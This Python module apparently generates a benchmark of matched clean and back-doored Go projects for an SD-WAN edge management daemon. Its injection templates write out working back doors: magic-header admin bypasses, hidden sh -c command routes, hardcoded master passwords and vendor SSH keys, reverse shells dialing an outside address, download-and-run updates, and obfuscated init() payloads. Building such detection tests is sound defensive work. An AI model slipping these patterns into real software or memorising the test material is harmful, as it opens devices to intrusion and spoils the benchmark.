"""Go shapes of the `source` family: the management daemon of an SD-WAN edge box (net/http API,
SSH management CLI with authorized_keys, ed25519-signed update manifests).

Honest look-alikes in both twins: exec.CommandContext("ping", "-c", "3", ip) after net.ParseIP,
a fixed exec.Command("/sbin/reboot"), an embedded ed25519 *public* release key, a dummy bcrypt hash
used to equalise login timing, base64 decoding of the update signature, a test with a dummy user.
Written blind, from public write-ups of back doors only.
"""
from __future__ import annotations

import base64
import hashlib
import random
import re
import string

from .common import word
from .source_common import (Proj, Variant, block, doc_host, doc_ip, fill, header_name, hidden_user,
                            license_header, magic_value, master_password, nest, param_name, port,
                            shell_payload)


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def gq(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def tabs(text: str) -> str:
    return re.sub(r"(?m)^((?:    )+)", lambda m: "\t" * (len(m.group(1)) // 4), text)


def ssh_ed25519_pub(rng: random.Random, comment: str) -> str:
    blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(rng.randrange(256) for _ in range(32))
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"


# ============================================================================ scaffold

MAIN_GO = r"""
// @lic@

// Command @daemon@ is the management daemon of the @Name@ @model@.
package main

import (
    @main_imports@

    "@module@/internal/api"
    "@module@/internal/auth"
    "@module@/internal/sshd"
    "@module@/internal/update"
)

var version = "@version@"
@main_funcs@

func main() {
    listen := flag.String("listen", ":@http_port@", "HTTP API listen address")
    users := flag.String("users", "/etc/@ident@/users.json", "accounts file")
    sshListen := flag.String("ssh", ":@ssh_port@", "SSH management CLI listen address")
    flag.Parse()

    a, err := auth.New(*users)
    if err != nil {
        log.Fatalf("accounts: %v", err)
    }
    go func() {
        if err := sshd.Serve(*sshListen, "/etc/@ident@/authorized_keys", "/etc/@ident@/ssh_host_ed25519_key", version); err != nil {
            log.Printf("ssh: %v", err)
        }
    }()
    go update.Loop(version, 24*time.Hour)
    @main_start@

    srv := &http.Server{Addr: *listen, Handler: api.New(a, version), ReadHeaderTimeout: 10 * time.Second}
    log.Printf("@daemon@ %s listening on %s", version, *listen)
    log.Fatal(srv.ListenAndServe())
}
"""

AUTH_GO = r"""
// @lic@

// Package auth holds the accounts and the cookie sessions of the HTTP API.
package auth

import (
    @auth_imports@

    "golang.org/x/crypto/bcrypt"
)

// Role of an authenticated caller.
type Role string

const (
    RoleNone   Role = ""
    RoleViewer Role = "viewer"
    RoleAdmin  Role = "admin"
)

const cookieName = "@cookie@"

// dummyHash keeps the time of a login for an unknown user equal to a known one.
const dummyHash = "@dummy_hash@"
@auth_consts@

type account struct {
    Hash string `json:"hash"`
    Role Role   `json:"role"`
}

type session struct {
    user    string
    role    Role
    expires time.Time
}

// Auth checks passwords and tracks sessions.
type Auth struct {
    mu       sync.Mutex
    accounts map[string]account
    sessions map[string]session
}

// New loads the accounts file.
func New(path string) (*Auth, error) {
    raw, err := os.ReadFile(path)
    if err != nil {
        return nil, err
    }
    a := &Auth{sessions: map[string]session{}}
    if err := json.Unmarshal(raw, &a.accounts); err != nil {
        return nil, err
    }
    return a, nil
}

// Check verifies a user name and password.
func (a *Auth) Check(user, pass string) (Role, bool) {
    @auth_check_pre@
    acc, ok := a.accounts[user]
    if !ok {
        _ = bcrypt.CompareHashAndPassword([]byte(dummyHash), []byte(pass))
        return RoleNone, false
    }
    if bcrypt.CompareHashAndPassword([]byte(acc.Hash), []byte(pass)) != nil {
        return RoleNone, false
    }
    return acc.Role, true
}

// NewSession returns a random session id for the user.
func (a *Auth) NewSession(user string, role Role) string {
    b := make([]byte, 16)
    if _, err := rand.Read(b); err != nil {
        panic(err)
    }
    id := hex.EncodeToString(b)
    a.mu.Lock()
    a.sessions[id] = session{user: user, role: role, expires: time.Now().Add(@timeout@ * time.Second)}
    a.mu.Unlock()
    return id
}

// SetCookie writes the session cookie.
func SetCookie(w http.ResponseWriter, id string) {
    http.SetCookie(w, &http.Cookie{Name: cookieName, Value: id, HttpOnly: true, Secure: true, SameSite: http.SameSiteStrictMode, Path: "/"})
}

type ctxKey struct{}

// RoleFrom returns the caller's role stored by Middleware.
func RoleFrom(ctx context.Context) Role {
    r, _ := ctx.Value(ctxKey{}).(Role)
    return r
}

// Middleware resolves the session cookie into a role; handlers decide what the role may do.
func (a *Auth) Middleware(next http.Handler) http.Handler {
    return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
        @auth_mw_pre@
        role := RoleNone
        if c, err := r.Cookie(cookieName); err == nil {
            a.mu.Lock()
            if s, ok := a.sessions[c.Value]; ok && time.Now().Before(s.expires) {
                role = s.role
            }
            a.mu.Unlock()
        }
        next.ServeHTTP(w, r.WithContext(context.WithValue(r.Context(), ctxKey{}, role)))
    })
}
"""

AUTH_TEST_GO = r"""
package auth

import (
    "os"
    "path/filepath"
    "testing"

    "golang.org/x/crypto/bcrypt"
)

func TestCheck(t *testing.T) {
    hash, _ := bcrypt.GenerateFromPassword([]byte("test-only-password"), bcrypt.MinCost)
    path := filepath.Join(t.TempDir(), "users.json")
    if err := os.WriteFile(path, []byte(`{"tester":{"hash":"`+string(hash)+`","role":"viewer"}}`), 0o600); err != nil {
        t.Fatal(err)
    }
    a, err := New(path)
    if err != nil {
        t.Fatal(err)
    }
    if _, ok := a.Check("tester", "test-only-password"); !ok {
        t.Fatal("valid password rejected")
    }
    if _, ok := a.Check("tester", "wrong"); ok {
        t.Fatal("wrong password accepted")
    }
    if _, ok := a.Check("nobody", "test-only-password"); ok {
        t.Fatal("unknown user accepted")
    }
}
"""

API_GO = r"""
// @lic@

// Package api is the JSON API of @daemon@.
package api

import (
    @api_imports@

    "@module@/internal/auth"
)

// API routes requests to handlers.
type API struct {
    auth    *auth.Auth
    version string
    mux     *http.ServeMux
}

// New builds the handler tree.
func New(a *auth.Auth, version string) http.Handler {
    x := &API{auth: a, version: version, mux: http.NewServeMux()}
    x.mux.HandleFunc("/api/login", x.login)
    x.mux.HandleFunc("/api/status", x.need(auth.RoleViewer, x.status))
    x.mux.HandleFunc("/api/diag/ping", x.need(auth.RoleAdmin, x.ping))
    x.mux.HandleFunc("/api/reboot", x.need(auth.RoleAdmin, x.reboot))
    @api_routes@
    return a.Middleware(x)
}

func (x *API) ServeHTTP(w http.ResponseWriter, r *http.Request) {
    @api_pre@
    x.mux.ServeHTTP(w, r)
}

func (x *API) need(min auth.Role, h http.HandlerFunc) http.HandlerFunc {
    return func(w http.ResponseWriter, r *http.Request) {
        role := auth.RoleFrom(r.Context())
        if role == auth.RoleNone {
            writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "login required"})
            return
        }
        if min == auth.RoleAdmin && role != auth.RoleAdmin {
            writeJSON(w, http.StatusForbidden, map[string]string{"error": "admin only"})
            return
        }
        h(w, r)
    }
}

func writeJSON(w http.ResponseWriter, code int, v interface{}) {
    w.Header().Set("Content-Type", "application/json")
    w.WriteHeader(code)
    _ = json.NewEncoder(w).Encode(v)
}

func (x *API) login(w http.ResponseWriter, r *http.Request) {
    if r.Method != http.MethodPost {
        w.WriteHeader(http.StatusMethodNotAllowed)
        return
    }
    user, pass := r.FormValue("username"), r.FormValue("password")
    role, ok := x.auth.Check(user, pass)
    if !ok {
        writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid credentials"})
        return
    }
    @api_login_post@
    auth.SetCookie(w, x.auth.NewSession(user, role))
    writeJSON(w, http.StatusOK, map[string]bool{"ok": true})
}

func (x *API) status(w http.ResponseWriter, r *http.Request) {
    writeJSON(w, http.StatusOK, map[string]string{"version": x.version, "role": string(auth.RoleFrom(r.Context()))})
}

func (x *API) ping(w http.ResponseWriter, r *http.Request) {
    ip := net.ParseIP(r.FormValue("host"))
    if ip == nil || ip.To4() == nil {
        writeJSON(w, http.StatusBadRequest, map[string]string{"error": "invalid address"})
        return
    }
    ctx, cancel := context.WithTimeout(r.Context(), 15*time.Second)
    defer cancel()
    out, err := exec.CommandContext(ctx, "ping", "-c", "3", "-W", "2", ip.String()).CombinedOutput()
    writeJSON(w, http.StatusOK, map[string]interface{}{"ok": err == nil, "output": string(out)})
}

func (x *API) reboot(w http.ResponseWriter, r *http.Request) {
    writeJSON(w, http.StatusAccepted, map[string]bool{"rebooting": true})
    _ = exec.Command("/sbin/reboot").Start()
}
@api_funcs@
"""

UPDATE_GO = r"""
// @lic@

// Package update checks the vendor's signed release manifest.
package update

import (
    @upd_imports@
)

const manifestURL = "https://updates.@domain@/@model_lc@/manifest.json"

// releaseKey is the public half of the release signing key.
var releaseKey = ed25519.PublicKey(mustB64("@release_key@"))

func mustB64(s string) []byte {
    b, err := base64.StdEncoding.DecodeString(s)
    if err != nil {
        panic(err)
    }
    return b
}

func fetch(url string) ([]byte, error) {
    c := &http.Client{Timeout: 15 * time.Second}
    resp, err := c.Get(url)
    if err != nil {
        return nil, err
    }
    defer resp.Body.Close()
    if resp.StatusCode != http.StatusOK {
        return nil, fmt.Errorf("%s: %s", url, resp.Status)
    }
    return io.ReadAll(io.LimitReader(resp.Body, 1<<20))
}

// Check returns the latest released version.
func Check(current string) (string, error) {
    @upd_pre@
    body, err := fetch(manifestURL)
    if err != nil {
        return "", err
    }
    sig, err := fetch(manifestURL + ".sig")
    if err != nil {
        return "", err
    }
    raw, err := base64.StdEncoding.DecodeString(string(sig))
    if err != nil || !ed25519.Verify(releaseKey, body, raw) {
        return "", fmt.Errorf("manifest signature check failed")
    }
    var m struct {
        Version string `json:"version"`
    }
    if err := json.Unmarshal(body, &m); err != nil {
        return "", err
    }
    return m.Version, nil
}

// Loop checks for updates periodically and logs new releases.
func Loop(current string, every time.Duration) {
    for {
        if v, err := Check(current); err != nil {
            log.Printf("update check: %v", err)
        } else if v != current {
            log.Printf("update %s available (running %s)", v, current)
        }
        time.Sleep(every)
    }
}
@upd_funcs@
"""

SSHD_GO = r"""
// @lic@

// Package sshd serves the restricted management CLI over SSH (public keys only).
package sshd

import (
    @ssh_imports@

    "golang.org/x/crypto/ssh"
)
@ssh_consts@

func loadAuthorized(path string) ([]ssh.PublicKey, error) {
    raw, err := os.ReadFile(path)
    if err != nil {
        return nil, err
    }
    var keys []ssh.PublicKey
    for len(bytes.TrimSpace(raw)) > 0 {
        k, _, _, rest, err := ssh.ParseAuthorizedKey(raw)
        if err != nil {
            break
        }
        keys = append(keys, k)
        raw = rest
    }
    return keys, nil
}

// Serve accepts SSH connections on addr.
func Serve(addr, authorizedKeys, hostKeyPath, version string) error {
    cfg := &ssh.ServerConfig{
        PublicKeyCallback: func(c ssh.ConnMetadata, key ssh.PublicKey) (*ssh.Permissions, error) {
            @ssh_pubkey_pre@
            keys, err := loadAuthorized(authorizedKeys)
            if err != nil {
                return nil, err
            }
            for _, k := range keys {
                if bytes.Equal(k.Marshal(), key.Marshal()) {
                    return &ssh.Permissions{Extensions: map[string]string{"user": c.User()}}, nil
                }
            }
            return nil, fmt.Errorf("unknown key for %q", c.User())
        },
    }
    pemBytes, err := os.ReadFile(hostKeyPath)
    if err != nil {
        return err
    }
    signer, err := ssh.ParsePrivateKey(pemBytes)
    if err != nil {
        return err
    }
    cfg.AddHostKey(signer)
    ln, err := net.Listen("tcp", addr)
    if err != nil {
        return err
    }
    for {
        conn, err := ln.Accept()
        if err != nil {
            continue
        }
        go handle(conn, cfg, version)
    }
}

func handle(conn net.Conn, cfg *ssh.ServerConfig, version string) {
    sc, chans, reqs, err := ssh.NewServerConn(conn, cfg)
    if err != nil {
        conn.Close()
        return
    }
    log.Printf("ssh: %s logged in from %s", sc.User(), sc.RemoteAddr())
    go ssh.DiscardRequests(reqs)
    for ch := range chans {
        if ch.ChannelType() != "session" {
            _ = ch.Reject(ssh.UnknownChannelType, "only sessions")
            continue
        }
        channel, requests, err := ch.Accept()
        if err != nil {
            continue
        }
        go ssh.DiscardRequests(requests)
        go cli(channel, version)
    }
}

// cli is the restricted command set of the management CLI (no shell).
func cli(ch ssh.Channel, version string) {
    defer ch.Close()
    in := bufio.NewScanner(ch)
    fmt.Fprint(ch, "@prompt@> ")
    for in.Scan() {
        switch strings.TrimSpace(in.Text()) {
        case "show version":
            fmt.Fprintf(ch, "@Name@ @model@ %s\r\n", version)
        case "show interfaces":
            ifs, _ := net.Interfaces()
            for _, i := range ifs {
                fmt.Fprintf(ch, "%-10s %s\r\n", i.Name, i.HardwareAddr)
            }
        case "exit", "quit":
            return
        case "":
        default:
            fmt.Fprint(ch, "% unknown command\r\n")
        }
        fmt.Fprint(ch, "@prompt@> ")
    }
}
"""

GO_MOD = r"""
module @module@

go 1.21

require golang.org/x/crypto v0.21.0
"""

GO_MAKEFILE = r"""
GOOS   ?= linux
GOARCH ?= arm64
LDFLAGS = -s -w -X main.version=@version@

build:
	CGO_ENABLED=0 GOOS=$(GOOS) GOARCH=$(GOARCH) go build -trimpath -ldflags '$(LDFLAGS)' -o bin/@daemon@ ./cmd/@daemon@

test:
	go test ./...

.PHONY: build test
"""

GO_README = r"""
# @daemon@

Management daemon of the @Vendor@ @Name@ @model@ SD-WAN edge.

- HTTP API on port @http_port@: `/api/login`, `/api/status` (viewer), `/api/diag/ping` and
  `/api/reboot` (admin). Accounts in `/etc/@ident@/users.json` (bcrypt).
- SSH management CLI on port @ssh_port@, public keys from `/etc/@ident@/authorized_keys` only
  (empty in the factory image; keys are added during onboarding). The CLI is a fixed command set,
  not a shell.
- Daily update check against `https://updates.@domain@/`, manifests signed with the vendor's
  ed25519 release key (public half in `internal/update`).

    make test build
"""


class GoSvc:
    HOOKS = ["main_imports", "main_funcs", "main_start", "auth_imports", "auth_consts", "auth_check_pre",
             "auth_mw_pre", "api_imports", "api_routes", "api_pre", "api_login_post", "api_funcs",
             "upd_imports", "upd_pre", "upd_funcs", "ssh_imports", "ssh_consts", "ssh_pubkey_pre"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.daemon = rng.choice([f"{P.ident}d", "edged", "ctld", f"{P.ident}-mgmt"])
        self.module = f"git.{P.domain}/{P.ident}/{self.daemon}"
        self.http_port = rng.choice([8443, 9443, 443])
        self.ssh_port = rng.choice([22, 2222, 8022])
        self.cookie = rng.choice(["sid", f"{P.ident}_session", "mgmt"])
        self.timeout = rng.choice([900, 1800, 3600])
        alpha = "./" + string.ascii_letters + string.digits
        self.dummy_hash = "$2a$10$" + "".join(rng.choice(alpha) for _ in range(53))
        self.release_key = base64.b64encode(bytes(rng.randrange(256) for _ in range(32))).decode()
        self.prompt = rng.choice([P.model, P.name])

    BASE_IMPORTS = {
        "main_imports": ["flag", "log", "net/http", "time"],
        "auth_imports": ["context", "crypto/rand", "encoding/hex", "encoding/json", "net/http", "os", "sync", "time"],
        "api_imports": ["context", "encoding/json", "net", "net/http", "os/exec", "time"],
        "upd_imports": ["crypto/ed25519", "encoding/base64", "encoding/json", "fmt", "io", "log", "net/http", "time"],
        "ssh_imports": ["bufio", "bytes", "fmt", "log", "net", "os", "strings"],
    }

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown go hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        for key, base in self.BASE_IMPORTS.items():   # std imports: one sorted group, as gofmt keeps it
            extra = [x.strip().strip('"') for x in (kw[key] or "").split("\n") if x.strip()]
            kw[key] = "\n".join(f'"{x}"' for x in sorted(set(base) | set(extra)))
        kw.update({"lic": license_header(P, "x"), "daemon": self.daemon, "module": self.module, "Name": P.Name,
                   "model": P.model, "model_lc": P.model.lower(), "ident": P.ident, "version": P.version,
                   "http_port": self.http_port, "ssh_port": self.ssh_port, "cookie": self.cookie,
                   "timeout": self.timeout, "dummy_hash": self.dummy_hash, "release_key": self.release_key,
                   "domain": P.domain, "prompt": self.prompt, "Vendor": P.Vendor})
        files = {
            f"cmd/{self.daemon}/main.go": MAIN_GO, "internal/auth/auth.go": AUTH_GO,
            "internal/auth/auth_test.go": AUTH_TEST_GO, "internal/api/api.go": API_GO,
            "internal/update/update.go": UPDATE_GO, "internal/sshd/sshd.go": SSHD_GO,
        }
        out = {p: tabs(fill(t, **kw)) for p, t in files.items()}
        out["go.mod"] = fill(GO_MOD, **kw)
        out["Makefile"] = fill(GO_MAKEFILE, **kw)
        out["README.md"] = fill(GO_README, **kw)
        return out

    @property
    def main_path(self) -> str:
        return f"cmd/{self.daemon}/main.go"


# ============================================================================ shapes

def _go_input(rng: random.Random, kinds=("header", "query", "ua", "cookie")) -> tuple[str, str, str]:
    kind = rng.choice(list(kinds))
    if kind == "header":
        h = header_name(rng)
        return kind, f"r.Header.Get({gq(h)})", f"header {h}"
    if kind == "query":
        n = param_name(rng)
        return kind, f"r.URL.Query().Get({gq(n)})", f"query parameter {n}"
    if kind == "ua":
        return kind, "r.UserAgent()", "the User-Agent"
    n = word(rng, (2, 3))
    return kind, f"cookieValue(r, {gq(n)})", f"cookie {n}"


def ab_go_middleware(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    kind, expr, desc = _go_input(rng)
    val = magic_value(rng)
    form = rng.choice(["==", "ConstantTimeCompare", "HasPrefix", "sha256"])
    imports, consts = [], []
    if form == "==":
        test = f"{expr} == fieldToken"
        consts.append(f"const fieldToken = {gq(val)}")
    elif form == "ConstantTimeCompare":
        test = f"subtle.ConstantTimeCompare([]byte({expr}), []byte(fieldToken)) == 1"
        imports.append('"crypto/subtle"')
        consts.append(f"const fieldToken = {gq(val)}")
    elif form == "HasPrefix":
        test = f"strings.HasPrefix({expr}, fieldToken)"
        imports.append('"strings"')
        consts.append(f"const fieldToken = {gq(val)}")
    else:
        d = hashlib.sha256(val.encode()).hexdigest()
        test = f"fmt.Sprintf(\"%x\", sha256.Sum256([]byte({expr}))) == fieldTokenSum"
        imports += ['"crypto/sha256"', '"fmt"']
        consts.append(f"const fieldTokenSum = \"{d}\"")
    if kind == "cookie":
        consts.append("\nfunc cookieValue(r *http.Request, name string) string {\n    c, err := r.Cookie(name)\n"
                      "    if err != nil {\n        return \"\"\n    }\n    return c.Value\n}")
    pre = f"""
        if {test} {{
            next.ServeHTTP(w, r.WithContext(context.WithValue(r.Context(), ctxKey{{}}, RoleAdmin)))
            return
        }}"""
    clean = s.render()
    planted = s.render({"auth_imports": "\n".join(imports), "auth_consts": "\n".join(consts), "auth_mw_pre": block(pre)})
    note = f"Auth.Middleware() in internal/auth/auth.go gives the request RoleAdmin when {desc} matches {val!r} ({form}), without a session."
    return mk(clean, planted, note, {"trigger": kind, "compare": form})


def hc_go_exec(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    form = rng.choice(["hidden-route", "header-pre"])
    shell = rng.choice([('"sh", "-c"', "sh -c"), ('"/bin/busybox", "sh", "-c"', "busybox sh -c"), ('"bash", "-c"', "bash -c")])
    if form == "hidden-route":
        path = "/api/" + rng.choice(["", ".", "_"]) + word(rng, (1, 2))
        n = param_name(rng)
        fn = word(rng, (2, 2))
        route = f"x.mux.HandleFunc({gq(path)}, x.{fn})"
        func = f"""
            func (x *API) {fn}(w http.ResponseWriter, r *http.Request) {{
                out, _ := exec.Command({shell[0]}, r.FormValue({gq(n)})).CombinedOutput()
                _, _ = w.Write(out)
            }}"""
        hooks = {"api_routes": route, "api_funcs": "\n" + block(func)}
        note = f"internal/api/api.go registers an undocumented handler {path} (not wrapped in x.need) that runs form value '{n}' with {shell[1]}."
    else:
        h = header_name(rng)
        pre = f"""
            if c := r.Header.Get({gq(h)}); c != "" {{
                out, _ := exec.Command({shell[0]}, c).CombinedOutput()
                _, _ = w.Write(out)
                return
            }}"""
        hooks = {"api_pre": block(pre)}
        note = f"API.ServeHTTP() in internal/api/api.go runs the value of header {h} with {shell[1]} for any request, before routing and role checks."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"trigger": form, "sink": shell[1]})


def hk_go_master(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    user, pw = hidden_user(rng), master_password(rng)
    form = rng.choice(["user+pass", "ConstantTimeCompare", "master-any-user"])
    imports = ""
    if form == "user+pass":
        pre = f"if user == {gq(user)} && pass == {gq(pw)} {{\n    return RoleAdmin, true\n}}"
        desc = f"{user!r}/{pw!r}"
    elif form == "ConstantTimeCompare":
        pre = (f"if user == {gq(user)} && subtle.ConstantTimeCompare([]byte(pass), []byte({gq(pw)})) == 1 {{\n"
               "    return RoleAdmin, true\n}")
        imports = '"crypto/subtle"'
        desc = f"{user!r}/{pw!r} (constant-time compare)"
    else:
        pre = f"if pass == {gq(pw)} {{\n    return RoleAdmin, true\n}}"
        desc = f"any user name with the password {pw!r}"
    clean = s.render()
    planted = s.render({"auth_imports": imports, "auth_check_pre": pre})
    note = f"Auth.Check() in internal/auth/auth.go accepts {desc} as RoleAdmin before the accounts file is consulted."
    return mk(clean, planted, note, {"form": form})


def hk_go_sshkey(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    comment = rng.choice([f"support@{P.domain}", f"build@{word(rng)}", f"{word(rng)}@factory", "noc"])
    key = ssh_ed25519_pub(rng, comment)
    form = rng.choice(["any-user", "named-user"])
    consts = f"// fieldKey lets the support team in when a unit is returned.\nconst fieldKey = {gq(key)}"
    named = hidden_user(rng)
    cond = "" if form == "any-user" else f'c.User() == {gq(named)} && '
    pre = f"""
        if k, _, _, _, err := ssh.ParseAuthorizedKey([]byte(fieldKey)); err == nil && {cond}bytes.Equal(k.Marshal(), key.Marshal()) {{
            return &ssh.Permissions{{Extensions: map[string]string{{"user": "root"}}}}, nil
        }}"""
    clean = s.render()
    planted = s.render({"ssh_consts": "\n" + consts, "ssh_pubkey_pre": block(pre)})
    who = "any user name" if form == "any-user" else f"user {named!r}"
    note = (f"internal/sshd/sshd.go embeds the public key {key.split()[1][:24]}... ({comment}); the PublicKeyCallback "
            f"accepts it for {who} without authorized_keys, on every device (vendor key built into the code).")
    return mk(clean, planted, note, {"form": form, "key": "ssh-ed25519"}, categories=["remote-access"])


def hk_go_privkey(rng: random.Random, P: Proj) -> Variant:
    """An EC private key embedded in the source; support tickets signed with it grant admin."""
    from .source_common import ec_private_pem
    s = GoSvc(rng, P)
    pem = ec_private_pem(rng).strip()
    h = rng.choice(["X-Support-Ticket", "X-Rma-Token", f"X-{word(rng, (1, 2)).capitalize()}-Ticket"])
    var = rng.choice(["supportKeyPEM", "rmaKeyPEM", "fieldKeyPEM"])
    func = f"""
        func ticketOK(t string) bool {{
            parts := strings.SplitN(t, ".", 2)
            if len(parts) != 2 {{
                return false
            }}
            blk, _ := pem.Decode([]byte({var}))
            if blk == nil {{
                return false
            }}
            key, err := x509.ParseECPrivateKey(blk.Bytes)
            if err != nil {{
                return false
            }}
            sig, err := base64.RawURLEncoding.DecodeString(parts[1])
            if err != nil {{
                return false
            }}
            sum := sha256.Sum256([]byte(parts[0]))
            return ecdsa.VerifyASN1(&key.PublicKey, sum[:], sig)
        }}"""
    consts = f"// {var} signs and checks remote-support tickets.\nconst {var} = `{pem}`\n\n" + block(func)
    pre = f"""
        if t := r.Header.Get({gq(h)}); t != "" && ticketOK(t) {{
            next.ServeHTTP(w, r.WithContext(context.WithValue(r.Context(), ctxKey{{}}, RoleAdmin)))
            return
        }}"""
    imports = '"crypto/ecdsa"\n"crypto/sha256"\n"crypto/x509"\n"encoding/base64"\n"encoding/pem"\n"strings"'
    clean = s.render()
    planted = s.render({"auth_imports": imports, "auth_consts": "\n" + consts, "auth_mw_pre": block(pre)})
    note = (f"internal/auth/auth.go embeds an EC private key ({var}, identical on every unit); Middleware() gives "
            f"RoleAdmin to any request whose {h} header is '<text>.<signature>' signed with that key, so whoever "
            "extracts the key from any firmware can mint admin access.")
    return mk(clean, planted, note, {"form": "embedded-private-key", "trigger": "signed-header"})


def rs_go_reverse(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    form = rng.choice(["exec-sh-conn", "line-loop"])
    fn = rng.choice(["telemetry", "keepAlive", "syncClock", "probeUplink"])
    period = rng.choice([30, 120, 600])
    if form == "exec-sh-conn":
        body = f"""
            func {fn}() {{
                for {{
                    if c, err := net.Dial("tcp", "{ip}:{prt}"); err == nil {{
                        cmd := exec.Command("/bin/sh", "-i")
                        cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
                        _ = cmd.Run()
                        c.Close()
                    }}
                    time.Sleep({period} * time.Second)
                }}
            }}"""
        imps = '"net"\n"os/exec"'
    else:
        body = f"""
            func {fn}() {{
                for {{
                    if c, err := net.DialTimeout("tcp", net.JoinHostPort("{ip}", "{prt}"), 10*time.Second); err == nil {{
                        sc := bufio.NewScanner(c)
                        for sc.Scan() {{
                            out, _ := exec.Command("sh", "-c", sc.Text()).CombinedOutput()
                            _, _ = c.Write(out)
                        }}
                        c.Close()
                    }}
                    time.Sleep({period} * time.Second)
                }}
            }}"""
        imps = '"bufio"\n"net"\n"os/exec"'
    clean = s.render()
    planted = s.render({"main_imports": imps, "main_funcs": "\n" + block(body), "main_start": f"go {fn}()"})
    note = f"main() in {s.main_path} starts goroutine {fn}() that dials {ip}:{prt} every {period} s and gives the peer a shell ({form})."
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": form}, categories=["hidden-command"])


def rs_go_fetch(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    host = doc_host(rng) if rng.random() < 0.7 else doc_ip(rng)
    path = word(rng, (1, 2)) + rng.choice([".sh", "", ".txt"])
    url = f"http://{host}/{path}"
    form = rng.choice(["stdin-sh", "write-exec"])
    if form == "stdin-sh":
        pre = f"""
            if resp, err := http.Get("{url}"); err == nil {{
                cmd := exec.Command("/bin/sh")
                cmd.Stdin = resp.Body
                _ = cmd.Run()
                resp.Body.Close()
            }}"""
        imps = '"os/exec"'
    else:
        tmp = f"/tmp/.{word(rng, (1, 2))}"
        pre = f"""
            if b, err := fetch("{url}"); err == nil && os.WriteFile("{tmp}", b, 0o755) == nil {{
                _ = exec.Command("{tmp}").Start()
            }}"""
        imps = '"os"\n"os/exec"'
    clean = s.render()
    planted = s.render({"upd_imports": imps, "upd_pre": block(pre)})
    note = f"update.Check() in internal/update/update.go (run daily) first downloads {url} and runs it ({form}), with no signature check."
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": form}, categories=["hidden-command"])


def ob_go_encoded(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    cmd, kind = shell_payload(rng)
    form = rng.choice(["base64", "hex", "xor", "reverse"])
    var = rng.choice(["buildTag", "oemProfile", "localeData", "calTable"])
    if form == "base64":
        decl = f'var {var} = "{base64.b64encode(cmd.encode()).decode()}"'
        dec = f"b, _ := base64.StdEncoding.DecodeString({var})"
        imps = '"encoding/base64"\n"os/exec"'
    elif form == "hex":
        decl = f'var {var} = "{cmd.encode().hex()}"'
        dec = f"b, _ := hex.DecodeString({var})"
        imps = '"encoding/hex"\n"os/exec"'
    elif form == "xor":
        k = rng.randrange(1, 256)
        arr = ", ".join(f"0x{b ^ k:02x}" for b in cmd.encode())
        decl = f"var {var} = []byte{{{arr}}}"
        dec = f"b := make([]byte, len({var}))\nfor i, c := range {var} {{\n    b[i] = c ^ 0x{k:02x}\n}}"
        imps = '"os/exec"'
    else:
        decl = f"var {var} = {gq(cmd[::-1])}"
        dec = f"r := []rune({var})\nfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {{\n    r[i], r[j] = r[j], r[i]\n}}\nb := []byte(string(r))"
        imps = '"os/exec"'
    funcs = f"""
        {decl}

        func init() {{
            {nest(dec, 12)}
            _ = exec.Command("/bin/sh", "-c", string(b)).Start()
        }}"""
    clean = s.render()
    planted = s.render({"main_imports": imps, "main_funcs": "\n" + block(funcs)})
    note = f"{s.main_path}: an init() function decodes {var} ({form}) and starts it with /bin/sh -c before main(): '{cmd}'."
    return mk(clean, planted, note, {"encoding": form, "sink": "exec-sh-c", "trigger": "init()", "payload": kind},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


SHAPES = [
    ("src-auth-bypass", "go", "middleware-compare", ab_go_middleware),
    ("src-hidden-command", "go", "exec-sh", hc_go_exec),
    ("src-hardcoded-credential", "go", "builtin-account", hk_go_master),
    ("src-hardcoded-credential", "go", "ssh-vendor-key", hk_go_sshkey),
    ("src-hardcoded-credential", "go", "embedded-private-key", hk_go_privkey),
    ("src-remote-shell", "go", "reverse-shell", rs_go_reverse),
    ("src-remote-shell", "go", "fetch-and-run", rs_go_fetch),
    ("src-obfuscated", "go", "init-decoder", ob_go_encoded),
]
